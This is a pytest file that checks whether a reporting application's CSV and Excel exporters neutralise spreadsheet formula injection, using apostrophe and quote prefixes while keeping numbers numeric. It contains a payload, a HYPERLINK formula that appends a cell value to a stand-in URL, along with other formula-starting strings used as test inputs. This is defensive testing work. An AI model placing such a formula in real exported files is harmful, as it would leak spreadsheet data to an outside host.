"""Nothing this system writes for a spreadsheet program is run by it: over every writer of the code."""

import csv
import re
from collections.abc import Iterable
from dataclasses import replace
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from phoihop.conferences.sheets import csv_file
from phoihop.core.spreadsheets import csv_safe
from phoihop.core.tables.shapes import Cell, Column, Row, Table
from phoihop.reports.enums import Severity
from phoihop.reports.files.answers import CellProblem
from phoihop.reports.files.bulk_template import Shape, bulk_workbook
from phoihop.reports.files.earlier import Earlier
from phoihop.reports.files.layout import Language
from phoihop.reports.files.marked import marked_copy
from phoihop.reports.files.own_workbook import Remark
from phoihop.reports.files.prefilled import Prefilled
from phoihop.reports.files.template import report_workbook
from phoihop.reports.management.commands.load_reports import write_problems
from phoihop.reports.models import Report, ReportVersion
from phoihop.reports.queries.cells import cells_of
from phoihop.rollup.compute_figures import RollupRow
from phoihop.rollup.export import write_rollup
from phoihop.web.tables import Sheet, download
from tests.reports.conftest import world as world  # noqa: PLC0414  the small world of reports
from tests.reports.world import World

PACKAGE = Path(__file__).resolve().parents[2] / "phoihop"
EVIL = '=HYPERLINK("http://example.org/?"&A1,"x")'
BEGINNINGS = ["=1+1", "+84 12", "- Tăng cường", "@SUM(A1)", "\tx", "\rx", "\n=1", "＝1+1", EVIL]
WRITERS = {  # a new writer of tables joins this list, with a test below
    "reports/files/bulk_template.py",
    "reports/files/marked.py",
    "reports/files/template.py",
    "reports/management/commands/load_reports.py",
    "rollup/export.py",
    "core/tables/sheets.py",
    "conferences/sheets.py",
}
READERS = {"conferences/document_files.py", "reports/files/read.py"}  # open workbooks and write none


def table(text: str) -> Sheet:
    row = Row([Cell(text, text), Cell("-5", Decimal("-5.5")), Cell("0", 0), Cell("–", None)])
    columns = [Column("a", text), *(Column(key, key) for key in "bcd")]
    return Sheet(Table("t", text, columns, [row], is_simulated=True), [text])


def texts_in(content: bytes) -> Iterable[Any]:
    book = openpyxl.load_workbook(BytesIO(content))
    return [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.value is not None]


def test_every_writer_of_tables_is_tested_here() -> None:
    writes = re.compile(r"csv\.writer|DictWriter|\bWorkbook\(|\bload_workbook\(|\.to_csv|\.write_csv")
    found = {
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if writes.search(path.read_text("utf-8"))
    }
    assert found - READERS == WRITERS


@pytest.mark.parametrize("text", BEGINNINGS)
def test_text_in_the_csv_of_a_conference_gets_an_apostrophe(text: str) -> None:
    content = csv_file("diem-danh", [[text, 5, None]]).content.decode("utf-8-sig")
    assert list(csv.reader(StringIO(content, newline=""))) == [[f"'{text}", "5", ""]]


@pytest.mark.parametrize("text", BEGINNINGS)
def test_text_in_a_csv_gets_an_apostrophe_and_numbers_stay_numbers(text: str) -> None:
    content = download(table(text), "csv").content.decode("utf-8-sig")
    heading, row = csv.reader(StringIO(content, newline=""))
    assert heading[0] == row[0] == f"'{text}"
    assert row[1:4] == ["-5.5", "0", ""]


@pytest.mark.parametrize("text", BEGINNINGS)
def test_text_in_a_workbook_is_a_text_cell_as_written(text: str) -> None:
    cells = list(texts_in(download(table(text), "xlsx").content))
    assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
    said = [cell for cell in cells if str(cell.value).strip() == text.strip()]
    assert len(said) == 4  # caption, head, heading, row
    assert all(cell.quotePrefix for cell in said)
    assert [(cell.value, cell.data_type) for cell in cells if not isinstance(cell.value, str)] == [
        (-5.5, "n"),
        (0, "n"),
    ]


def test_figures_of_a_roll_up(tmp_path: Path) -> None:
    row = RollupRow(
        **{
            **dict.fromkeys(RollupRow.__dataclass_fields__),
            "level": "commune", "area_key": EVIL, "area_code": "-01", "indicator": "B01",
            "start": date(2026, 1, 1), "last": date(2026, 6, 30), "value": Decimal("-3.5"), "reported": 1,
            "expected": 1, "state": "received",
        }
    )  # fmt: skip
    write_rollup([row], tmp_path / "f.csv", map_name="=as_reported")  # type: ignore[arg-type]
    [_head, line] = csv.reader((tmp_path / "f.csv").open(encoding="utf-8", newline=""))
    assert line[:4] == ["'=as_reported", "commune", f"'{EVIL}", "'-01"]
    assert line[7] == "-3.5"


def test_problems_of_a_loading(tmp_path: Path) -> None:
    write_problems(tmp_path / "p.csv", [CellProblem("=a.csv", "", "A1", EVIL, "0", "-x")])
    [_head, line] = csv.reader((tmp_path / "p.csv").open(encoding="utf-8-sig", newline=""))
    assert line[:4] == ["'=a.csv", "", "A1", f"'{EVIL}"]
    assert "'-x" in line


@pytest.fixture
def report(world: World) -> Report:
    world.open()
    found = world.report_of(world.units[0])
    found.organisation.name_vi = found.organisation.name_en = EVIL
    cells_of(found)[0].version.name_vi = "+B01"
    return found


@pytest.mark.parametrize("shape", [Shape.LONG, Shape.WIDE])
def test_a_table_for_many_units(report: Report, shape: Shape) -> None:
    file = BytesIO()
    bulk_workbook([report], shape).save(file)
    cells = list(texts_in(file.getvalue()))
    assert {cell.data_type for cell in cells} == {"s"}
    assert EVIL in {cell.value for cell in cells}


@pytest.mark.parametrize("language", Language)
def test_a_unit_workbook_with_what_was_typed(report: Report, language: Language) -> None:
    typed = ReportVersion(
        report=report,
        number=1,
        cells={"B01": "-5", "B02": EVIL},
        notes={"B01": EVIL},
        narrative={"results": "- Đã làm", "causes": f"{EVIL}\x0b"},
    )
    earlier = replace(Earlier(), previous={"B01": "-7"}, last_year={"B01": EVIL})
    file = BytesIO()
    report_workbook(report, cells_of(report), earlier, language, Prefilled(typed, "c")).save(file)
    cells = list(texts_in(file.getvalue()))
    assert "f" not in {cell.data_type for cell in cells}
    assert [cell.value for cell in cells if cell.data_type == "n"] == [-7, -5]
    assert sum(cell.value == EVIL for cell in cells) >= 5


@pytest.mark.parametrize("text", BEGINNINGS)
def test_a_marked_copy_of_a_workbook(report: Report, text: str) -> None:
    """A text that came as text stays one, and what is said of a cell is a comment on it."""
    typed = ReportVersion(report=report, number=1, cells={"B01": "5"}, notes={"B01": text}, narrative={})
    file = BytesIO()
    report_workbook(report, cells_of(report), Earlier(), Language.VIETNAMESE, Prefilled(typed, "c")).save(
        file
    )
    sheet = openpyxl.load_workbook(BytesIO(file.getvalue())).worksheets[0].title
    remark = Remark(sheet, "G10", text, f"{text} không phải là số.", Severity.ERROR)

    cells = list(texts_in(marked_copy(file.getvalue(), [remark], "0a1b2c3d")))

    assert "f" not in {cell.data_type for cell in cells}
    said = [cell for cell in cells if str(cell.value).strip() == text.strip()]
    assert [bool(cell.quotePrefix) for cell in said] == [True] * max(len(said), 1)
    assert [cell.comment.text for cell in cells if cell.comment] == [f"{text} không phải là số."]


def test_a_number_is_never_made_a_text() -> None:
    assert [csv_safe(each) for each in (-5, Decimal("-1.5"), None, "5-1", "")] == [
        -5,
        Decimal("-1.5"),
        None,
        "5-1",
        "",
    ]
